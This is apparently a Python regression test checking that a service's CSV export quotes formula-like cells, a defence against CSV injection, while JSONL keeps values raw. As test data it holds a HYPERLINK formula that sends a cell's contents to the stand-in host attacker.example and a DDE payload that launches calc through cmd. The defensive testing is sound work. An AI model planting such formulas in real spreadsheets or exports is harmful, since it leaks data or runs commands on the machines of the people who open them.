"""Issue 15 item 9: the CSV export wrote formula-like cells raw, so a case id or a model's answer such as
``=HYPERLINK("http://attacker/?"&A1,"open")`` became a live formula in whatever spreadsheet opened the file."""

from __future__ import annotations

import csv
import io
import json
import uuid
from typing import Any

import httpx
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession

from service.db.models import Outcome, Request, Response
from service.results.responses import EXPORT_FIELDS, _csv_line

FORMULA_ID = '=HYPERLINK("http://attacker.example/?leak="&B2,"open")'
FORMULA_TEXT = "@SUM(1+1)*cmd|' /C calc'!A0"
# OWASP's CSV injection triggers: a cell starting with one of these is quoted with a leading '
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CASE = {"defeat_type": "control", "authority_type": "workplace", "unjust_policy": "a rule", "user_query": "help?"}


async def test_formula_cells_are_quoted_in_csv_and_raw_in_jsonl(
    client: httpx.AsyncClient, session: AsyncSession, make_config: Any
) -> None:
    cases = [CASE | {"id": FORMULA_ID}, CASE | {"id": "-2+3"}, CASE | {"id": "plain"}]
    dataset = await client.post("/v1/datasets", json={"name": "hostile", "cases": cases})
    assert dataset.status_code == 201, dataset.text
    config = await make_config()
    job = await client.post("/v1/jobs", json={"dataset_id": dataset.json()["id"], "model_config_ids": [config["id"]]})
    assert job.status_code == 202, job.text
    job_id = uuid.UUID(job.json()["id"])
    # a model that answers with a formula (the answer is stored as the provider returned it)
    request_id = (await session.execute(select(Request.id).where(Request.job_id == job_id).limit(1))).scalar_one()
    session.add(Response(request_id=request_id, job_id=job_id, model_config_id=uuid.UUID(config["id"]),
                         outcome=Outcome.answer, text=FORMULA_TEXT, cache_key="k" * 64))  # fmt: skip
    await session.commit()

    exported = await client.get(f"/v1/jobs/{job_id}/export", params={"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert sorted(row["case_id"] for row in rows) == sorted(["'" + FORMULA_ID, "'-2+3", "plain"])
    assert [row["text"] for row in rows if row["text"]] == ["'" + FORMULA_TEXT]
    # JSONL is data, not a sheet: it keeps every value exactly as it is
    lines = [json.loads(line) for line in (await client.get(f"/v1/jobs/{job_id}/export")).text.splitlines()]
    assert sorted(line["case_id"] for line in lines) == sorted([FORMULA_ID, "-2+3", "plain"])
    assert [line["text"] for line in lines if line["text"]] == [FORMULA_TEXT]


# text with the triggers, quotes, commas and line breaks over-represented, and any other character too
_CELL = st.text(
    alphabet=st.sampled_from([*TRIGGERS, '"', ",", "\n", "'", "a", " "]) | st.characters(blacklist_categories=("Cs",))
)


@given(st.lists(_CELL, min_size=len(EXPORT_FIELDS), max_size=len(EXPORT_FIELDS)))
def test_every_csv_cell_reads_back_raw_or_quoted_exactly_when_it_starts_with_a_trigger(values: list[str]) -> None:
    line = _csv_line(tuple(values)).decode()
    (row,) = list(csv.reader(io.StringIO(line, newline="")))  # one record, however many line breaks in its cells
    assert len(row) == len(values)
    for raw, cell in zip(values, row, strict=True):
        assert cell == ("'" + raw if raw.startswith(TRIGGERS) else raw)
